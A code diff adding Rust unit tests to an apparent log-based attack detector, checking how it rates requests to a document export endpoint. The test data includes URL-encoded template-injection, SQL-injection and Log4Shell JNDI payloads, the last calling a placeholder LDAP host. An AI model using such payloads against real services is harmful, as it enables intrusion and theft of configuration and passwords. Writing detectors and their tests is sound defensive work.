@@ -312,4 +312,43 @@ mod tests {
         assert!(of("/static/js/env.js", 60) < Severity::Medium && of("/assets/env.json", 12) < Severity::Medium);
         assert_eq!((of("/static/js/.env", 60), of("/env.production", 12)), (Severity::High, Severity::High));
     }
+
+    /// The worst and its title, of a service that exports documents under a header, where one client gives these headers.
+    fn exported(headers: &[&str], status: u16) -> (Severity, String) {
+        let mut detector = Detector::default();
+        let mut observe = |offset: usize, client: &str, header: &str, status| {
+            let target = format!("/api/export?format=pdf&header={header}");
+            let record = Record {
+                client: Some(client.as_bytes()),
+                agent: Some(b"Mozilla/5.0"),
+                target: Some(target.as_bytes()),
+                status: Some(status),
+                bytes: Some(90_000 + offset as u64 * 331),
+                ..Record::default()
+            };
+            let at = Position { offset: offset as u64, line: offset as u64, ..Position::default() };
+            detector.observe(at, &record);
+        };
+        (0..100).for_each(|number| observe(number, &format!("192.0.2.{number}"), "Draft", 200));
+        for (number, header) in (100..).zip(headers) {
+            observe(number, "198.51.100.7", header, status);
+        }
+        let incidents = detector.finish().incidents;
+        let worst = incidents.iter().max_by_key(|incident| incident.severity).expect("an incident");
+        (worst.severity, worst.title.clone())
+    }
+
+    #[test]
+    fn a_template_that_reads_the_configuration_is_shown_and_what_is_sprayed_is_not() {
+        let config = "%7B%7Bconfig.items()%7D%7D";
+        assert_eq!(exported(&[config], 200).0, Severity::Medium);
+        assert_eq!(exported(&[config], 400).0, Severity::Low, "refused");
+        let sprayed =
+            exported(&[config, "x%27+union+select+password+from+users--", "%24%7Bjndi:ldap://x.example/a%7D"], 200);
+        assert_eq!(sprayed.0, Severity::Low, "{}", sprayed.1);
+        let answered = exported(&["x%27+union+select+password+from+users--"], 200);
+        assert!(!answered.1.contains("got nothing"), "{}", answered.1);
+        let refused = exported(&["x%27+union+select+password+from+users--"], 404);
+        assert!(refused.1.contains("got nothing"), "{}", refused.1);
+    }
 }
